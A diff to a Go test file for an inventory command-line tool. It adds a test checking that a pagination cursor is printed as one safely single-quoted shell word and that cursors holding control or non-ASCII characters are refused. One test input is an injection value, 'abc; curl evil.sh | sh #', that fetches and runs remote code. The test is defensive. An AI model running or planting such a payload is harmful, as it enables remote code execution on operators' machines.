@@ -1,6 +1,8 @@
 package stockctl
 
 import (
+	"encoding/json"
+	"errors"
 	"io"
 	"strings"
 	"testing"
@@ -160,7 +162,7 @@ func TestPrinters_ShowNoControlOrFormatCharacters(t *testing.T) {
 	}{
 		{"sku", printSKU, `{"skuId":"cup","name":"` + evil + `","status":"` + evil + `","updatedBy":"` + evil + `"}`},
 		{"sku line", printSKULine, `{"skuId":"` + evil + `"}`},
-		{"skus", printSKUs, `{"skus":[{"skuId":"cup","name":"` + evil + `"}],"next":"` + evil + `"}`},
+		{"skus", printSKUs, `{"skus":[{"skuId":"cup","name":"` + evil + `"}],"next":"c1"}`},
 		{"ledger", printLedger, `{"entries":[{"at":"2026-11-30T00:00:00Z","op":"ADJUST","reason":"` + evil + `","by":"` + evil + `"}]}`},
 		{"orders", printOrders, `{"orders":[{"orderId":"o1","userId":"` + evil + `"}]}`},
 		{"adjustment", printAdjustment, `{"adjustmentId":"a1","reason":"` + evil + `","sku":{"skuId":"cup","name":"` + evil + `"}}`},
@@ -182,6 +184,32 @@ func TestPrinters_ShowNoControlOrFormatCharacters(t *testing.T) {
 		}
 		if !strings.Contains(out.String(), "[2J gnp.exe x y") {
 			t.Errorf("%s: the table lacks the text made printable:\n%q", tc.name, out.String())
+		}
+	}
+}
+
+// A list's next-page cursor is shown as a shell word an operator may paste: as given
+// when it holds only characters no shell reads, else in single quotes (each quote in
+// it closed, escaped and opened again), so `; curl evil.sh | sh #` stays inside the --after value. One holding a
+// character a cursor never holds (a control or format character, which the table
+// would show as a space and the copy would get wrong, or any not ASCII) is no page
+// of the route: refused, not shown.
+func TestPrintPage_ShowsTheCursorAsOneShellWord(t *testing.T) {
+	for _, c := range []struct{ next, want string }{
+		{`eyJrIjoiYSJ9_-.=:/+`, "more: --after eyJrIjoiYSJ9_-.=:/+\n"},
+		{`abc; curl evil.sh | sh #`, `more: --after 'abc; curl evil.sh | sh #'` + "\n"},
+		{`a'b $(x) \\`, `more: --after 'a'\''b $(x) \\'` + "\n"},
+	} {
+		answer, _ := json.Marshal(map[string]any{"skus": []any{}, "next": c.next})
+		var out strings.Builder
+		if err := printSKUs(&out, answer); err != nil || !strings.HasSuffix(out.String(), c.want) {
+			t.Errorf("next %q: err %v, out %q; want it to end %q", c.next, err, out.String(), c.want)
+		}
+	}
+	for _, next := range []string{`a\u001bb`, `a\nb`, `a\tb`, `a\u202eb`, `a\u200bb`, `caf\u00e9`, `a\ufffdb`, "a\xffb"} {
+		var out strings.Builder
+		if err := printSKUs(&out, []byte(`{"skus":[],"next":"`+next+`"}`)); !errors.Is(err, errUnexpected) || out.Len() != 0 {
+			t.Errorf("next %q: err %v, out %q; want it refused as not the route's JSON, nothing shown", next, err, out.String())
 		}
 	}
 }
